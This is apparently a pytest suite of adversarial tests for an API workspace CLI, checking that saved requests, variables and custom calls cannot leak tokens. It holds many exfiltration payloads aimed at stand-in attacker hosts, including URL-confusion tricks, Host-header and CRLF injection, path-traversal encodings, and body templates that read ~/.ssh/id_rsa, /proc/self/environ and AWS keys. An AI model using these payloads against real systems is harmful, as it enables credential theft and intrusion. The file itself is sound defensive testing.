"""What a saved request, a variable or a custom call of the workspace can send elsewhere."""

import json
from typing import NamedTuple

import pytest

from tests.adversarial.machine import READ, SAVED, Machine, answer_as_weda, stolen
from tests.adversarial.recorder import Reply
from tests.canaries import ACCESS

PATH = "/weda/workflow/v1/prod/DescribeInstanceApproverList"
BEARER = 'headers = ["Authorization: Bearer {{access_token}}"]\n'
EVIL_VARIABLES = '[variables]\n"vars.host" = "<EVIL>"\ntarget = "<EVIL>"\n'
LOG_IN = """endpoint = "auth.clientCredential"
method = "POST"
url = "{{vars.host}}/auth/v1/token/clientCredential"
body = '{"grant_type": "client_credentials"}'
[capture]
Taken = "$.access_token"
"""


class Lure(NamedTuple):
    """A saved request that tries to send a token elsewhere."""

    name: str
    url: str
    lines: str = BEARER
    """Further lines of its file."""
    files: tuple[tuple[str, str], ...] = ()
    """Names and texts of other files of the workspace; each text is appended to its file."""
    options: tuple[str, ...] = ()
    status: int = 2
    goes_home: bool = False
    """Whether the request is sent, because its destination is allowed."""

    @property
    def text(self) -> str:
        """The text of its file."""
        return f'method = "POST"\nurl = {quoted(self.url)}\n{self.lines}'


LURES = [
    Lure("absolute", f"<EVIL>{PATH}"),
    Lure("absolute-tls", f"<EVIL-S>{PATH}"),
    Lure("home-with-another-scheme", f"https://<HOME-PLACE>{PATH}"),
    Lure("home-with-another-port", f"http://127.0.0.1:<EVIL-PORT>{PATH}"),
    Lure("home-with-another-name", f"http://localhost:<HOME-PORT>{PATH}"),
    Lure("protocol-relative", f"//<EVIL-PLACE>{PATH}"),
    Lure("home-as-user", f"http://<HOME-PLACE>@<EVIL-PLACE>{PATH}"),
    Lure("variable-as-user", f"{{{{vars.host}}}}@<EVIL-PLACE>{PATH}"),
    Lure("variable-as-user-with-password", f"{{{{vars.host}}}}:x@<EVIL-PLACE>{PATH}"),
    Lure("evil-as-user", f"http://<EVIL-PLACE>@<HOME-PLACE>{PATH}"),
    Lure("backslash", f"http://<EVIL-PLACE>\\@<HOME-PLACE>{PATH}"),
    Lure("backslash-after-home", f"<HOME>\\@<EVIL-PLACE>{PATH}"),
    Lure("backslash-after-a-variable", f"{{{{vars.host}}}}\\@<EVIL-PLACE>{PATH}"),
    Lure("variable-as-prefix", f"{{{{vars.host}}}}.evil.example{PATH}"),
    Lure("variable-as-prefix-of-a-port", f"{{{{vars.host}}}}0{PATH}"),
    Lure("tab-in-the-scheme", f"ht\ttp://<EVIL-PLACE>{PATH}"),
    Lure("line-break-in-the-address", f"http://\n<EVIL-PLACE>{PATH}"),
    Lure("one-slash", f"http:/<EVIL-PLACE>{PATH}"),
    Lure("three-slashes", f"http:///<EVIL-PLACE>{PATH}"),
    Lure("full-width-slashes", f"http:\uff0f\uff0f<EVIL-PLACE>{PATH}"),
    Lure("other-protocol", f"ftp://<EVIL-PLACE>{PATH}"),
    Lure("file-of-the-state", "file://<FOLDER>/state/secrets.json"),
    Lure("token-in-the-query", "<EVIL>/?t={{access_token}}"),
    Lure("token-in-the-path", "<EVIL>/{{access_token}}"),
    Lure("token-as-user", "http://{{access_token}}@<EVIL-PLACE>/"),
    Lure("token-as-a-name", "http://{{access_token}}.evil.example/"),
    Lure("token-in-the-body", "<EVIL>/", 'body = "{{access_token}}"\n'),
    Lure("token-in-a-header", "<EVIL>/", 'headers = ["X: {{access_token}}"]\n'),
    Lure("without-a-token", "<EVIL>/", 'headers = ["Authorization: none"]\n'),
    Lure("token-by-its-call", "<EVIL>/auth/v1/token/clientCredential", ""),
    Lure("target-of-the-request", "{{target}}/", BEARER + EVIL_VARIABLES),
    Lure(
        "target-of-the-folder",
        "{{target}}/",
        files=(("collections/lure/folder.toml", EVIL_VARIABLES),),
    ),
    Lure(
        "target-of-the-environment",
        "{{target}}/",
        files=(("environments/hq.toml", EVIL_VARIABLES),),
    ),
    Lure(
        "target-of-the-env-type",
        "{{target}}/",
        files=(("environments/hq.toml", '[env_type_variables.prod]\ntarget = "<EVIL>"\n'),),
    ),
    Lure("target-of-the-command", "{{target}}/", options=("--set", "target=<EVIL>")),
    Lure(
        "target-in-two-steps",
        "{{first}}/",
        BEARER + '[variables]\nfirst = "{{second}}"\nsecond = "<EVIL>"\n',
    ),
    Lure(
        "host-of-the-request",
        "{{vars.host}}" + PATH,
        BEARER + EVIL_VARIABLES,
        status=0,
        goes_home=True,
    ),
    Lure(
        "host-of-the-folder",
        "{{vars.host}}" + PATH,
        files=(("collections/lure/folder.toml", EVIL_VARIABLES),),
        status=0,
        goes_home=True,
    ),
    Lure(
        "host-of-the-environment",
        "{{vars.host}}" + PATH,
        files=(("environments/hq.toml", EVIL_VARIABLES),),
        status=0,
        goes_home=True,
    ),
    Lure(
        "host-of-the-env-type",
        "{{vars.host}}" + PATH,
        files=(("environments/hq.toml", '[env_type_variables.prod]\n"vars.host" = "<EVIL>"\n'),),
        status=0,
        goes_home=True,
    ),
    Lure(
        "host-of-the-command",
        "{{vars.host}}" + PATH,
        options=("--set", "vars.host=<EVIL>"),
        status=0,
        goes_home=True,
    ),
    Lure(
        "env-type-leads-elsewhere",
        "{{vars.host}}{{WeDa.EnvType}}/x",
        options=("--set", "WeDa.EnvType=@<EVIL-PLACE>"),
    ),
    Lure(
        "env-type-of-the-command",
        "{{vars.host}}{{WeDa.EnvType}}/x",
        options=("--env-type", "@<EVIL-PLACE>"),
    ),
    Lure("host-header", "{{vars.host}}" + PATH, 'headers = ["Host: <EVIL-PLACE>"]\n'),
    Lure(
        "host-header-with-a-token",
        "{{vars.host}}" + PATH,
        'headers = ["Host: evil.example", "Authorization: Bearer {{access_token}}"]\n',
    ),
    Lure(
        "second-host-header",
        "{{vars.host}}" + PATH,
        'headers = ["Host: <HOME-PLACE>", "HOST: {{to}}"]\n[variables]\nto = "evil.example"\n',
    ),
    Lure(
        "host-header-with-a-token-in-the-body",
        "{{vars.host}}" + PATH,
        'body = "{{access_token}}"\nheaders = ["Host: evil.example"]\n',
    ),
    Lure(
        "host-header-without-a-token",
        "{{vars.host}}" + PATH,
        'headers = ["Host: evil.example", "Authorization: none"]\n',
    ),
    Lure(
        "line-break-in-a-header",
        "{{vars.host}}" + PATH,
        'headers = ["X: {{a}}"]\n[variables]\na = "x\\r\\nHost: <EVIL-PLACE>"\n',
    ),
    Lure(
        "request-in-the-address",
        "{{vars.host}}/x HTTP/1.1\r\nHost: <EVIL-PLACE>\r\n\r\nGET <EVIL>/",
    ),
    Lure("variables-of-the-machine", "{{vars.host}}/{{AWS_SECRET_ACCESS_KEY}}{{env.GITHUB_TOKEN}}"),
    Lure(
        "captured-token-to-another-address",
        "<EVIL>/?t={{Taken}}",
        'headers = ["Authorization: none"]\ndepends = ["lure/first"]\n',
        files=(("collections/lure/first.toml", LOG_IN),),
    ),
    Lure(
        "captured-token-as-a-name",
        "http://{{Taken}}.evil.example/",
        'headers = ["Authorization: none"]\ndepends = ["lure/first"]\n',
        files=(("collections/lure/first.toml", LOG_IN),),
    ),
    Lure(
        "captured-target",
        "{{Taken}}/x",
        BEARER + 'depends = ["lure/first"]\n',
        files=(("collections/lure/first.toml", LOG_IN.replace("$.access_token", "$.next")),),
    ),
    Lure(
        "polled-address",
        "<EVIL>/",
        BEARER + '[poll]\nuntil = { on = "status", equals = 200 }\nevery = 1\nat_most = 1\n',
    ),
]


def quoted(text: str) -> str:
    """Return a TOML basic string."""
    return json.dumps(text, ensure_ascii=False)


def append(m: Machine, name: str, text: str) -> None:
    file = m.workspace / name
    before = file.read_text("utf-8") if file.exists() else ""
    m.write(name, f"{before}\n{text}")


@pytest.mark.parametrize("lure", LURES, ids=lambda lure: lure.name)
def test_a_saved_request_takes_no_token_elsewhere(machine: Machine, lure: Lure) -> None:
    for name, text in lure.files:
        append(machine, name, text)
    machine.write("collections/lure/zz.toml", lure.text)
    options = [machine.fill(each) for each in lure.options]
    for words in (("send", "lure/zz"), ("run", "lure/zz")):
        machine.sites.plain.clear()
        ran = machine.run(*words, "--yes", "--env", "hq", *options)
        said = f"{lure.name}: {words[0]}: exit {ran.status}: {ran.text}{ran.talk}"
        assert machine.stolen == [], said
        assert machine.evil.requests == [], said
        assert ran.status == lure.status, said
        assert any(PATH in line for line in machine.sites.plain.requests) is lure.goes_home, said
        assert stolen(ran.data + ran.talk.encode()) == [], said


GATE_PATHS = [
    "<HOME>/other-tenant/x",
    "<HOME>",
    "<HOME>?/weda-a/",
    "{{vars.host}}x/x",
    "{{vars.host}}/../other-tenant/x",
    "{{vars.host}}/x/../../other-tenant/x",
    "{{vars.host}}/%2e%2e/other-tenant/x",
    "{{vars.host}}/.%252e/other-tenant/x",
    "{{vars.host}}/..;/other-tenant/x",
    "{{vars.host}}/..;a=b/other-tenant/x",
    "{{vars.host}}\\..\\other-tenant\\x",
    "{{vars.host}}/..\\other-tenant/x",
    "{{vars.host}}/..%5cother-tenant/x",
    "{{vars.host}}//../other-tenant/x",
    "{{vars.host}}/..%2fother-tenant/x",
    "{{vars.host}}/a%2f..%252f..%2fother-tenant/x",
    "{{vars.host}}/a%2fb/../../other-tenant/x",
    "{{vars.host}}/%c0%ae%c0%ae/other-tenant/x",
    "{{vars.host}}/%e0%80%ae%e0%80%ae/other-tenant/x",
    "{{vars.host}}/%f0%80%80%ae%f0%80%80%ae/other-tenant/x",
    "{{vars.host}}/%ff%fe/other-tenant/x",
    "{{vars.host}}/{{up}}/other-tenant/x",
    "//<HOME-PLACE>/other-tenant/x",
]
GATE_LINES = {
    "token": BEARER,
    "own-token": f'endpoint = "{READ}"\n',
    "basic": 'endpoint = "auth.clientCredential"\n',
    "captured": 'headers = ["X: {{Taken}}", "Authorization: none"]\ndepends = ["lure/first"]\n',
}


def answer_behind_a_gate(path: str) -> Reply:
    return answer_as_weda(path.removeprefix("/weda-a"))


def be_behind_a_gate(machine: Machine) -> None:
    """Make the deployment one of several behind one origin, with a path that the user approved."""
    machine.sites.plain.answers = answer_behind_a_gate
    machine.edit("hq", '"<HOME>"', '"<HOME>/weda-a"')
    shown = json.loads(machine.run("env", "show", "hq", "--json").data)
    assert machine.run("env", "approve", "hq", "--route", shown["route"]).status == 0


@pytest.mark.parametrize("lines", GATE_LINES.values(), ids=GATE_LINES)
def test_nothing_goes_to_another_system_behind_the_same_origin(
    machine: Machine, lines: str
) -> None:
    be_behind_a_gate(machine)
    machine.write("collections/lure/first.toml", LOG_IN)
    for url in GATE_PATHS:
        text = f'method = "POST"\nurl = {quoted(url)}\n{lines}[variables]\nup = ".."\n'
        machine.write("collections/lure/zz.toml", text)
        ran = machine.run("run", "lure/zz", "--yes", "--env", "hq")
        assert ran.status == 2, f"{url}: {ran.text}{ran.talk}"
        paths = [line.split()[1] for line in machine.sites.plain.requests]
        assert [path for path in paths if not path.startswith("/weda-a/auth/")] == [], url


def test_no_header_leads_to_another_system_behind_the_same_origin(machine: Machine) -> None:
    be_behind_a_gate(machine)
    machine.write(
        "collections/lure/zz.toml",
        f'method = "POST"\nurl = "{{{{vars.host}}}}{PATH}"\n'
        'headers = ["X-Original-URL: /other-tenant/x"]\n',
    )
    for headers in (BEARER, ""):
        machine.write("collections/lure/first.toml", SAVED + headers)
        assert machine.run("send", "lure/first", "--yes", "--env", "hq").status == 0
    machine.sites.plain.clear()
    given = ("--header", "Authorization: Bearer {{access_token}}")
    assert machine.run("send", "lure/zz", "--yes", "--env", "hq", *given).status == 2
    assert not any(PATH in line for line in machine.sites.plain.requests)


@pytest.mark.parametrize("place", ["body = '{{Taken}}'\n", ""])
def test_a_captured_token_goes_to_no_other_virtual_host(machine: Machine, place: str) -> None:
    """A Host header is refused also if the token is in the text of the request itself."""
    machine.write("collections/lure/first.toml", LOG_IN)
    header = "X: y" if place else "X: {{Taken}}"
    machine.write(
        "collections/lure/zz.toml",
        f'method = "POST"\nurl = "{{{{vars.host}}}}/taken"\n{place}depends = ["lure/first"]\n'
        f'headers = ["Authorization: none", "Host: evil.example", "{header}"]\n',
    )
    ran = machine.run("run", "lure/zz", "--yes", "--env", "hq")
    assert any("/auth/" in line for line in machine.sites.plain.requests), ran.talk
    assert not any("/taken" in line for line in machine.sites.plain.requests), ran.talk
    assert ran.status == 2, ran.talk


OWN_CALLS = [
    ("absolute", f"<EVIL>{PATH}"),
    ("protocol-relative", f"//<EVIL-PLACE>{PATH}"),
    ("user", f"@<EVIL-PLACE>{PATH}"),
    ("backslash", f"\\\\<EVIL-PLACE>{PATH}"),
    ("dots", f"/../../@<EVIL-PLACE>{PATH}"),
    ("port", f":<EVIL-PORT>{PATH}"),
]


@pytest.mark.parametrize("auth", ["wedaClientCredentials", "wedaPassword", "wedaBasic"])
@pytest.mark.parametrize(("name", "path"), OWN_CALLS)
def test_a_call_of_the_workspaces_own_goes_nowhere_else(
    machine: Machine, name: str, path: str, auth: str
) -> None:
    text = f"[calls.Steal]\nmethod = 'GET'\npath = '{path}'\neffect = 'read'\nauth = '{auth}'\n"
    machine.write("modules/crm.toml", text)
    ran = machine.run("send", "crm.Steal", "--yes", "--env", "hq")
    assert machine.stolen == [], f"{name}: {ran.talk}"
    assert machine.evil.requests == [], f"{name}: {ran.talk}"


HIDDEN_WRITES = [
    "/weda/workflow/v1/prod/Stop%2525252546low",
    "/weda/workflow/v1/prod/%u0053topFlow",
    "/weda/workflow/v1/prod/S%c1%b4opFlow",
    "/weda/odata/v1/prod/orders?_method[]=DELETE",
    "/weda/odata/v1/prod/orders?_HttpMethod=DELETE",
]


@pytest.mark.parametrize("path", HIDDEN_WRITES)
def test_a_saved_request_hides_no_write_from_the_guard(machine: Machine, path: str) -> None:
    lines = f'method = "GET"\nurl = {quoted("{{vars.host}}" + path)}\nendpoint = "odata.list"\n'
    machine.write("collections/lure/zz.toml", lines)
    machine.sites.plain.clear()
    ran = machine.run("send", "lure/zz", "--env", "hq", "--env-type", "prod")
    assert ran.status == 7, ran.talk
    assert machine.sites.plain.requests == []


FILES = [
    "{{$file ../state/secrets.json}}",
    "{{$file <FOLDER>/state/secrets.json}}",
    "{{$file ~/.ssh/id_rsa}}",
    "{{$file file://<FOLDER>/state/secrets.json}}",
    "{{$file /proc/self/environ}}",
    "{{$file link.json}}",
    "{{$file link/secrets.json}}",
    "{{$file environ}}",
    "{{$file x/../../state/tokens.json}}",
    "@<FOLDER>/state/secrets.json",
    "< <FOLDER>/state/secrets.json",
    "{{AWS_SECRET_ACCESS_KEY}}{{env.AWS_SECRET_ACCESS_KEY}}{{$env AWS_SECRET_ACCESS_KEY}}",
    "{{$processEnv AWS_SECRET_ACCESS_KEY}}{{$dotenv AWS_SECRET_ACCESS_KEY}}",
    "$AWS_SECRET_ACCESS_KEY ${AWS_SECRET_ACCESS_KEY} $(env) `env` %AWS_SECRET_ACCESS_KEY%",
]


@pytest.mark.parametrize("body", FILES)
def test_a_body_takes_nothing_of_the_machine(machine: Machine, body: str) -> None:
    """Even a call without a secret, to an environment of the attacker, may not read files."""
    (machine.workspace / "link.json").symlink_to(machine.state / "secrets.json")
    (machine.workspace / "link").symlink_to(machine.state)
    (machine.workspace / "environ").symlink_to("/proc/self/environ")
    machine.write("environments/evil.toml", 'host = "<EVIL>"\n[env_types]\nprod = "none"\n')
    form = "Content-Type: multipart/form-data; boundary=b"
    part = '--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n{}\r\n--b--\r\n'
    for name, headers, text in (("plain", "X: y", body), ("form", form, part.format(body))):
        machine.write(
            f"collections/lure/{name}.toml",
            f'method = "POST"\nurl = "{{{{vars.host}}}}/x"\nbody = {quoted(text)}\n'
            f'headers = ["Authorization: none", "{headers}"]\n',
        )
        ran = machine.run("send", f"lure/{name}", "--yes", "--env", "evil")
        assert machine.stolen == [], ran.talk
        assert stolen(ran.data + ran.talk.encode()) == []


PEM_KEY = "-----BEGIN PRIVATE KEY-----\ncanaryKey0123456789\n-----END PRIVATE KEY-----\n"


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("certs/me.key", "canaryKey0123456789"),
        ("certs/me.p12", "canaryKey0123456789"),
        ("certs/me.pem", PEM_KEY),
        ("uploads/report.pdf", f"%PDF-1.7\n{PEM_KEY}"),
        ("certs/mine", "canaryKey0123456789"),
        ("link.pdf", ""),
    ],
)
def test_a_body_takes_no_key_of_the_workspace(machine: Machine, file: str, content: str) -> None:
    """A client key at the place that the README recommends, or that an environment names."""
    machine.write("certs/mine", "canaryKey0123456789")
    if content:
        machine.write(file, content)
    else:
        (machine.workspace / file).symlink_to("certs/mine")
    machine.edit("tls", "ca_file =", 'client_key = "certs/mine"\nca_file =')
    machine.write("environments/evil.toml", 'host = "<EVIL>"\n[env_types]\nprod = "none"\n')
    machine.approve("evil")
    machine.write(
        "collections/lure/key.toml",
        'method = "POST"\nurl = "{{vars.host}}/x"\nheaders = ["Authorization: none"]\n'
        f'body = "{{{{$file {file}}}}}"\n',
    )
    for words in (("send", "lure/key"), ("run", "lure")):
        ran = machine.run(*words, "--yes", "--env", "evil")
        assert machine.evil.requests == [], ran.talk
        assert ran.status == 2, ran.talk


def test_a_link_to_the_secrets_shows_none(machine: Machine) -> None:
    """Files of a workspace link to the victim's own files: no error shows their content."""
    secrets = machine.state / "secrets.json"
    tokens = machine.state / "tokens.json"
    links = {
        "environments/a.toml": secrets,
        "collections/lure/a.toml": secrets,
        "collections/lure/folder.toml": tokens,
        "rules/success.toml": secrets,
        "rules/ignored.toml": tokens,
        "notes/codes.toml": secrets,
        "modules/crm.toml": secrets,
        "modules/erp.openapi.json": tokens,
    }
    for name, target in links.items():
        path = machine.workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    for words in (
        *(("env", "list"), ("env", "show", "a"), ("send", "lure/a", "--yes", "--env", "hq")),
        *(
            ("run", "lure", "--yes", "--env", "hq"),
            ("catalogue", "list"),
            ("errors", "INVALID_ENV"),
        ),
        *(("export", "lure", "--format", "postman"), ("send", "crm.X", "--env", "hq")),
    ):
        ran = machine.run(*words)
        assert stolen(ran.data + ran.talk.encode()) == [], words
    assert machine.stolen == []


def test_the_finder_sees_what_is_sent(machine: Machine) -> None:
    """A token sent to the attacker is found in every spelling: these tests are able to fail."""
    machine.edit("hq", "<HOME>", "<EVIL>")
    shown = json.loads(machine.run("env", "show", "hq", "--json").data)
    assert machine.run("env", "approve", "hq", "--route", shown["route"]).status == 0
    for spelled in (ACCESS, ACCESS.encode().hex(), ACCESS.replace("J", "%4a")):
        machine.evil.clear()
        words = ("send", READ, "--yes", "--env", "hq", "--header", "Authorization: none")
        machine.run(*words, "--header", f"X: {spelled}")
        assert machine.stolen != [], spelled
